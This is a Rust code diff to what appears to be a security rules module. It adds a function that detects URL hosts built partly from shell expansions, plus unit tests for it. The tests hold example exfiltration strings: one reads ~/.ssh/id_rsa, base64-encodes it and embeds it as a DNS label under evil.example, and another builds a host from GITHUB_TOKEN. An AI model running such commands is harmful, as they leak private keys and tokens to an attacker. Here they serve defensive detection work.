@@ -122,6 +122,33 @@ pub(in crate::rules) fn literal_host(url: &Url<'_>) -> Option<String> {
     Some(name.to_ascii_lowercase())
 }
 
+/// Whether a host is spelled partly by hand around its expansions
+/// (`$(x).evil.example`): the expansion is then a label the resolver is
+/// given. A host that is all expansion (`$URL`, `$(cat url.txt)`) is the
+/// whole address computed, not a name built to carry data.
+pub(in crate::rules) fn has_literal_part(host: &str) -> bool {
+    let mut depth = 0usize;
+    let mut backquoted = false;
+    let mut chars = host.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '`' => backquoted = !backquoted,
+            '$' if matches!(chars.peek(), Some('(' | '{')) => {
+                chars.next();
+                depth += 1;
+            }
+            '$' if depth == 0 && !backquoted => {
+                while chars.next_if(|c| c.is_ascii_alphanumeric() || *c == '_').is_some() {}
+            }
+            '(' | '{' if depth > 0 => depth += 1,
+            ')' | '}' if depth > 0 => depth -= 1,
+            c if depth == 0 && !backquoted && c.is_ascii_alphanumeric() => return true,
+            _ => {}
+        }
+    }
+    false
+}
+
 /// Byte offset of the first character outside substitutions that passes `stop`.
 fn top_level(text: &str, stop: impl Fn(char) -> bool) -> Option<usize> {
     let mut depth = 0usize;
@@ -165,6 +192,10 @@ mod tests {
         let dns = split_url("http://$(cat ~/.ssh/id_rsa | base64 | head -c 50).evil.example/x");
         assert_eq!(dns.host, "$(cat ~/.ssh/id_rsa | base64 | head -c 50).evil.example");
         assert_eq!(literal_host(&dns), None);
+        assert!(has_literal_part(dns.host));
+        assert!(has_literal_part("${GITHUB_TOKEN}.x.example"));
+        assert!(!has_literal_part("$URL") && !has_literal_part("$(cat url.txt)"));
+        assert!(!has_literal_part("`cat u`"));
         assert_eq!(split_url("x.example/a").host, "x.example");
         assert_eq!(
             literal_host(&split_url("http://[::1]:80/")).as_deref(),
